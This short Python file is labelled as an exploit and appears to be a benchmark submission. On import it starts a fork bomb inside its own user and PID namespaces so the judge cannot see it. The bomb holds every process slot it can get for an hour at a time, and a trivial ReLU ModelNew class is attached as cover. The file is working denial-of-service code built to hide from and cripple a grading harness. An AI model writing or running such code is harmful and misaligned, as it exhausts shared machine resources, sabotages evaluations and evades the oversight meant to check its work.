# Exploit: a fork bomb in PID and user namespaces of its own, where the judge does not look
# for the candidate's processes: they hold every process slot they can get, for good.
import subprocess
import sys

import torch.nn as nn

BOMB = """
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
"""
bomb = subprocess.Popen(["unshare", "--user", "--pid", "--fork", sys.executable, "-c", BOMB],
                        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
try:  # a bomb that could not start says so at once
    _, err = bomb.communicate(timeout=0.5)
    raise OSError(f"unshare: {err.decode().strip()}")
except subprocess.TimeoutExpired:
    pass


class ModelNew(nn.Module):
    def forward(self, x):
        return x.relu()
